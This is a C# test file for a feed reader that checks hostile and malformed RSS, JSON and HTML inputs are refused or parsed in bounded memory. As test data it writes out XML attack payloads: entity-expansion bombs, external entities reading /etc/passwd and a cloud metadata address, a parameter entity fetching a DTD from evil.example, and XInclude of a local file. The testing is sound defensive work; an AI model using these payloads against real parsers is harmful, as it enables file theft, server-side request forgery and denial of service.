using System.Text;
using DealBot.Core.Articles.Feeds;

namespace DealBot.Core.Tests.Feeds;

/// <summary>Documents that were made to do harm, and documents that are no feeds: each refused with a reason, or read without the harm.</summary>
public sealed class HostileFeedsTests
{
    private const string Declares = "has a DOCTYPE with declarations of its own, which may unfold without end or read files, and are refused";

    public static TheoryData<string, string> Refused =>
    [
        new($"<!DOCTYPE rss [<!ENTITY a 'ha'>{string.Concat(Enumerable.Range(0, 9).Select(i => $"<!ENTITY {(char)('b' + i)} '{Repeat($"&{(char)('a' + i)};", 10)}'>"))}]>{Feed("&j;")}", Declares) { TestDisplayName = "a billion laughs" },
        new($"<!DOCTYPE rss [<!ENTITY a '{Repeat("ha", 50_000)}'>]>{Feed(Repeat("&a;", 50_000))}", Declares) { TestDisplayName = "quadratic blow-up" },
        new($"<!DOCTYPE rss [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>{Feed("&a;")}", Declares) { TestDisplayName = "an external entity that is a file" },
        new($"<!DOCTYPE rss [<!ENTITY a SYSTEM 'http://169.254.169.254/latest'>]>{Feed("&a;")}", Declares) { TestDisplayName = "an external entity at an inner address" },
        new($"<!DOCTYPE rss [<!ENTITY % a SYSTEM 'http://evil.example/a.dtd'> %a;]>{Feed("x")}", Declares) { TestDisplayName = "a parameter entity" },
        new($"<!DOCTYPE rss SYSTEM 'a.dtd' [<!ATTLIST item a CDATA 'b'>]>{Feed("x")}", Declares) { TestDisplayName = "declared attributes" },
        new($"\n<!-- --> <!doctype rss [\n<!ENTITY a 'b'>]>{Feed("&a;")}", Declares) { TestDisplayName = "a document type in lower case behind a comment" },
        new(Feed("<!DOCTYPE x [<!ENTITY a 'b'>]>&a;"), Declares) { TestDisplayName = "a document type within an item" },
        new(Feed("<!ENTITY a SYSTEM 'file:///etc/passwd'>&a;"), "declares entities or elements, which are refused") { TestDisplayName = "an entity declared without a document type" },
        new("<rss>" + Repeat("<a>", 1_000_000), "nests elements more than 256 deep") { TestDisplayName = "a million elements in one another" },
        new("<rss>" + Repeat("<a/>", 1_000_000) + "</rss>", "holds more than 500,000 elements") { TestDisplayName = "a million elements side by side" },
        new("{\"items\":" + Repeat("[", 1_000_000), "is damaged JSON") { TestDisplayName = "a million lists in one another" },
        new("{\"version\":\"https://jsonfeed.org/version/1\",\"items\":{}}", "is JSON, but no feed: it has no list of items") { TestDisplayName = "JSON without a list" },
        new("[1,2]", "is JSON, but no feed: it has no list of items") { TestDisplayName = "JSON that is a list" },
        new("", "is empty") { TestDisplayName = "nothing" },
        new(" \n\t ", "is empty") { TestDisplayName = "white space" },
        new("Not found.", "is text, and no feed") { TestDisplayName = "a sentence" },
        new("<?xml version='1.0'?><sitemapindex><sitemap/></sitemapindex>", "is a page that names no feed") { TestDisplayName = "XML of another kind" },
        new("<!DOCTYPE html><html><body><form><input type='password'></form></body></html>", "is a log-in page") { TestDisplayName = "a log-in page" },
        new("<html><head><title>404</title></head><body>Gone</body></html>", "is a page that names no feed") { TestDisplayName = "a page without feeds" },
        new("%PDF-1.7 ...", "is a PDF document, and no feed") { TestDisplayName = "a PDF document" },
        new("\u0001\u0000\u0002" + Repeat("\u0000\u0003", 50), "is no text in any encoding that feeds are in") { TestDisplayName = "zeros" },
    ];

    [Theory, MemberData(nameof(Refused))]
    public void Is_refused_with_a_reason(string text, string problem)
    {
        var failure = FeedReads.Failure(text);

        Assert.Equal(problem, failure.Problem);
        Assert.DoesNotContain('.', failure.Remedy);
        Assert.NotEmpty(failure.Remedy);
    }

    public static TheoryData<string> Harmless =>
    [
        new("<?xml-stylesheet type='text/xsl' href='http://169.254.169.254/'?>" + Feed("A")) { TestDisplayName = "a style sheet at an inner address" },
        new("<!DOCTYPE rss SYSTEM 'http://169.254.169.254/rss.dtd'>" + Feed("A")) { TestDisplayName = "a document type at an inner address" },
        new("<!DOCTYPE rss>" + Feed("A<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd' parse='text'/>")) { TestDisplayName = "XInclude of a file" },
        new(Feed("A").Replace("<item>", "<item " + string.Join(' ', Enumerable.Range(0, 100_000).Select(i => $"a{i}='b'")) + ">", StringComparison.Ordinal)) { TestDisplayName = "a hundred thousand attributes" },
        new(Feed("A").Replace("<item>", $"<item a='{Repeat("x", 2_000_000)}'>", StringComparison.Ordinal)) { TestDisplayName = "an attribute of two megabytes" },
        new(Feed("A").Replace("<item>", "<item " + Repeat("xmlns:a='b' ", 50_000) + ">", StringComparison.Ordinal)) { TestDisplayName = "a namespace declared without end" },
        new(Feed("A") + Repeat("<", 500_000)) { TestDisplayName = "beginnings of tags" },
        new(Feed("A<!--" + Repeat("-", 500_000) + "-->")) { TestDisplayName = "a comment of dashes" },
        new(Feed("A").Replace("</channel>", Repeat("<![CDATA[", 200_000) + "]]></channel>", StringComparison.Ordinal)) { TestDisplayName = "sections in a section" },
        new(Feed("A").Replace("</channel>", Repeat("</x>", 500_000) + "</channel>", StringComparison.Ordinal)) { TestDisplayName = "ends without beginnings" },
        new(Feed("A").Replace("</channel>", Repeat("&", 500_000) + "</channel>", StringComparison.Ordinal)) { TestDisplayName = "ampersands" },
        new(Feed("A").Replace("</channel>", Repeat("<a b=", 100_000) + "</channel>", StringComparison.Ordinal).Replace("<a b=", "<br b=", StringComparison.Ordinal)) { TestDisplayName = "attributes that never end" },
        new(Feed("A&#x110000;&#xFFFFFFFFFFFF;&#-1;&#;".Replace("A&#x110000;&#xFFFFFFFFFFFF;&#-1;&#;", "A", StringComparison.Ordinal)).Replace("</item>", "<pubDate>&#x110000;99999999999999999999</pubDate><ttl>1e999</ttl></item>", StringComparison.Ordinal)) { TestDisplayName = "numbers beyond all bounds" },
        new(Feed("A").Replace("</item>", "<link>http://[::ffff:1.2.3.4:99999/\uD800</link></item>", StringComparison.Ordinal)) { TestDisplayName = "an address of nonsense" },
        new("""{"items":[{"title":"A","id":1e999,"url":"http://\ud800","date_published":"999999999999999999","content_text":"\u0000\udfff"}]}""") { TestDisplayName = "JSON of nonsense" },
    ];

    [Theory, MemberData(nameof(Harmless))]
    public void Is_read_without_the_harm_in_bounded_memory(string text)
    {
        var before = GC.GetAllocatedBytesForCurrentThread();

        var item = Assert.Single(FeedReads.Feed(text).Items);

        Assert.Equal("A", item.Title);
        Assert.Null(item.Published);
        Assert.InRange(GC.GetAllocatedBytesForCurrentThread() - before, 0, (64 << 20) + (100L * text.Length));
    }

    [Fact]
    public void A_page_names_its_feeds_absolute_and_in_order()
    {
        const string Html = """
            <!DOCTYPE html><html><head><base href="/base/"><title>Gazette</title>
            <link rel="alternate" type="application/rss+xml" href="feed.xml"><link REL="Alternate" TYPE="application/atom+xml; charset=utf-8" href="https://other.example/atom">
            <link rel="alternate" hreflang="de" href="/de"><link rel="stylesheet" type="text/css" href="x.css"><link rel="alternate" type="application/feed+json" href="//cdn.example/f.json">
            <link rel="alternate" type="application/rss+xml" href="feed.xml"><link rel="alternate" type="application/rss+xml" href="javascript:1"></head><body></body></html>
            """;

        var page = Assert.IsType<FeedOutcome.Page>(FeedReader.Read(Encoding.UTF8.GetBytes(Html), null, FeedReads.Address));

        Assert.Equal(["https://gazette.example/base/feed.xml", "https://other.example/atom", "https://cdn.example/f.json"], page.Feeds.Select(feed => feed.AbsoluteUri));
    }

    private static string Feed(string title) => $"<rss><channel><title>G</title><item><title>{title}</title></item></channel></rss>";

    private static string Repeat(string piece, int count) => new StringBuilder().Insert(0, piece, count).ToString();
}
